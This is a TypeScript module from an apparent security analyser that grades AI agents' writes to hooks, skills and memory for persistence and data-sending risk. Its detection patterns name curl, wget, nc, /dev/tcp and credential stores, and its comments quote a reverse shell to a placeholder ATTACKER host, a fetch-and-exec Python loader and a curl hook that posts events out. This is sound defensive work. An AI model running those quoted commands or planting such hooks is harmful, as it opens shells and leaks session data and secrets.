import type { BehaviourOf, Value, WriteClass } from '../../analysis/facts.js';
import { classifyHost, isPrivateNetworkHost, isRemote } from '../../analysis/hosts.js';
import { endpointVariable } from './unfilled-hosts.js';

/** What a write puts in place, as the persistence rule grades it. */

/**
 * A one-liner of JavaScript or Python in the written text that fetches text and runs it (an MCP server
 * written as `node -e "fetch(URL).then(…).then(src => import('data:text/javascript;base64,' + …))"`,
 * `python3 -c "exec(urlopen(URL).read())"`): a request beside a sink that runs text as code.
 */
const FETCHES_TEXT =
  /\bfetch\s{0,4}\(\s{0,4}['"`]https?:|\burlopen\s{0,4}\(|\brequests\.get\s{0,4}\(|\bhttps?\.get\s{0,4}\(\s{0,4}['"`]https?:/;
const RUNS_TEXT =
  /\bimport\s{0,4}\(\s{0,4}['"`]data:|\beval\s{0,4}\(|\bnew\s{1,4}Function\s{0,4}\(|\bexec\s{0,4}\(|\bvm\.run|\._compile\s{0,4}\(/;

/**
 * Content that downloads or runs code each time it loads: shell fetchers and pipes to a shell, and
 * PowerShell's (a profile line that runs a script block or text it builds: `InvokeScript`, `iex`,
 * `[scriptblock]::Create`, a web request).
 */
export function runsCode(v: Value | undefined): boolean {
  if (!v) return false;
  return (
    v.taints.includes('download') ||
    (FETCHES_TEXT.test(v.text) && RUNS_TEXT.test(v.text)) ||
    /\b(?:curl|wget|iwr|irm|nc|ncat|socat)\b|\/dev\/tcp|base64\s+-{1,2}d|\|\s*(?:ba)?sh\b/i.test(v.text) ||
    /\b(?:InvokeScript|Invoke-Expression|iex|Invoke-RestMethod|Invoke-WebRequest|DownloadString|DownloadFile|Start-BitsTransfer)\b|\[scriptblock\]::Create/i.test(
      v.text,
    )
  );
}

/**
 * The lines of written code that run: full-line `#` comments dropped (shell, Python, PowerShell, crontab,
 * systemd, YAML, TOML), so `# curl -X POST "$HOOK" …` left in a hook's body as an option sends and runs
 * nothing. Not for Markdown, where `#` starts a heading the agent reads.
 */
export function withoutCommentLines(v: Value | undefined): Value | undefined {
  if (!v?.text.includes('#')) return v;
  const text = v.text
    .split('\n')
    .filter((l) => !/^\s*#/.test(l))
    .join('\n');
  return text === v.text ? v : { ...v, text };
}

/** What of a write's content runs where it loads: a skill's own text (not what it was fetched from), Markdown as it is, code without its comments. */
export function loadedText(cls: WriteClass, v: Value | undefined): Value | undefined {
  if (cls === 'agent-skill') return v && { ...v, taints: [] };
  return cls === 'agent-memory' ? v : withoutCommentLines(v);
}

/** A curl or wget, and a flag that sends a body or a file (`-d`, `--data-binary @-`, `-F`, `-T`, `-X POST`, `--post-file`). */
const SENDER = /\b(?:curl|wget)\b/;
const SEND_FLAG =
  /\s(?:-[dFT]\b|--data(?:-binary|-raw|-urlencode)?\b|--form\b|--upload-file\b|--post-(?:data|file)\b|-X\s{0,4}(?:POST|PUT)\b)/;
/** How much of the content is read for a hook command: commands are short. */
const MAX_COMMAND_TEXT = 16_384;
/** Text that runs what it fetches or decodes, or opens a shell to a host (then the write stays critical). */
const RUNS_FETCHED =
  /\|\s*(?:ba|z|da|k)?sh\b|\|\s*(?:python3?|node|perl|ruby)\b|\beval\b|\bsource\s|<\(|\biex\b|Invoke-Expression|\/dev\/tcp|base64\s+-{1,2}d|\b(?:nc|ncat|socat)\b/i;
/** Secret stores and credentials named in the text: sending them is worse than sending the event. */
const NAMES_SECRETS =
  /\.ssh\/|\.aws\/|\.kube\/|credentials|\.env\b|\.netrc|\.npmrc|\bprintenv\b|\benv\s{0,4}\||_TOKEN\b|_KEY\b|SECRET/i;

/**
 * A hook or settings command that only sends what it is handed (the hook input on standard input, a file it
 * names): `curl -s -X POST --data-binary @- https://ingest…/events`. It runs nothing fetched, but the runtime
 * hands it every event it matches (each tool call and its result, each prompt), so the session goes to that
 * host from then on: `host` is the first host off this machine it sends to (none for a collector on
 * 127.0.0.1 or a placeholder). Undefined when the text does not send, or also runs fetched code, opens a
 * shell or names a secret store (graded as code that runs by the caller).
 */
export function hookSends(v: Value | undefined): { host?: string } | undefined {
  const t = v?.text.slice(0, MAX_COMMAND_TEXT) ?? '';
  if (!v || !SENDER.test(t) || !SEND_FLAG.test(t) || RUNS_FETCHED.test(t) || NAMES_SECRETS.test(t))
    return undefined;
  const host = payloadHosts(v).find(
    (h) => h !== '' && isRemote(classifyHost(h)) && !OFF_NET.has(classifyHost(h)),
  );
  return host ? { host } : {};
}

/** Host classes that name no party off the machine: a write-up's slot or a value not known here. */
const OFF_NET: ReadonlySet<string> = new Set(['placeholder', 'unknown']);

/** The hosts written code connects to or downloads from: `/dev/tcp/HOST/`, a URL's host, `nc [-opts] HOST PORT`. */
const PAYLOAD_HOSTS =
  /\/dev\/(?:tcp|udp)\/([^/\s"'`]{1,100})\/|\b[a-z][\w+.-]{0,20}:\/\/([^/\s"'`:]{1,200})|\b(?:nc|ncat|netcat)(?:\s{1,4}-[\w-]{1,20}(?:\s{1,4}\/[\w/.-]{1,40})?){0,4}\s{1,4}([\w.-]{1,100})\s{1,4}\d{1,5}\b/g;

/**
 * Code that runs each time it loads, but whose every connection goes to a write-up's placeholder host
 * (`bash -i >& /dev/tcp/ATTACKER/4444 0>&1` in a crontab line, `nc ATTACKER_IP 5555 -e /bin/sh` in
 * rc.local): a technique shown with the reader's own box left to fill in, not a payload that reaches
 * anyone as written. A variable counts only when nothing in reach fills it (`unfilled`, from
 * support/unfilled-hosts.ts); an ordinary host is not a placeholder.
 */
export function placeholderPayload(v: Value | undefined, unfilled?: ReadonlySet<string>): boolean {
  const hosts = payloadHosts(v);
  return (
    hosts.length > 0 &&
    hosts.every(
      (h) =>
        classifyHost(h) === 'placeholder' ||
        // A lab address (`10.10.10.10`) is graded like a placeholder, as reverse-shell grades it.
        isPrivateNetworkHost(h) ||
        unfilled?.has(endpointVariable({ url: h, cls: 'unknown' }) ?? '') === true,
    )
  );
}

/** The hosts written code connects to or downloads from (at most 16, the download's source included). */
export function payloadHosts(v: Value | undefined): string[] {
  if (!v) return [];
  const hosts: string[] = [];
  for (const m of v.text.matchAll(PAYLOAD_HOSTS)) {
    if (hosts.length >= 16) break;
    hosts.push(m[1] ?? m[2] ?? m[3] ?? '');
  }
  if (v.taints.includes('download')) hosts.push(v.from ?? '');
  return hosts;
}

/** A relative path, literal: inside the repository (no home, root, variable or drive). */
const inRepo = (p: string | undefined) => !!p && !/^(?:[~/$%\\]|[A-Za-z]:|\.\.\/\.\.\/\.\.)/.test(p.trim());

/** `.git/hooks/x` of this clone written from a file of the repository, nothing downloaded or decoded. */
export function ownHook(b: BehaviourOf<'write'>): boolean {
  const c = b.content;
  return (
    b.target.literal &&
    inRepo(b.target.text) &&
    !!c?.from &&
    inRepo(c.from) &&
    c.taints.every((t) => t === 'file') &&
    !runsCode(c)
  );
}

/**
 * A git hook of a project folder (`.git/hooks/x`, `.husky/x` under the repository or a folder the script is
 * given, `"$target/.git/hooks/pre-commit"`; not the home folder or a system path) written with fixed content —
 * a here-document or a copy of a file, nothing downloaded or decoded, nothing that runs fetched code: the
 * project-local lint hook a formatter skill installs, which lasts in that project only and is undone by
 * deleting it. Content that downloads or runs code keeps the write's full grade (runsCode).
 */
export function projectHook(b: BehaviourOf<'write'>): boolean {
  const t = b.target.text.trim();
  const c = b.content;
  if (!c || !/(?:^|\/)(?:\.git\/hooks|\.husky)\/[\w.-]{1,60}["']?$/.test(t)) return false;
  if (/^["']?(?:~|\$\{?(?:HOME|XDG_\w{1,20}|USERPROFILE)\b|\/(?:etc|usr|root|home|Users)\/)/.test(t))
    return false;
  const fixed = c.taints.length === 0 ? c.literal : c.taints.every((x) => x === 'file');
  return fixed && !runsCode(c);
}
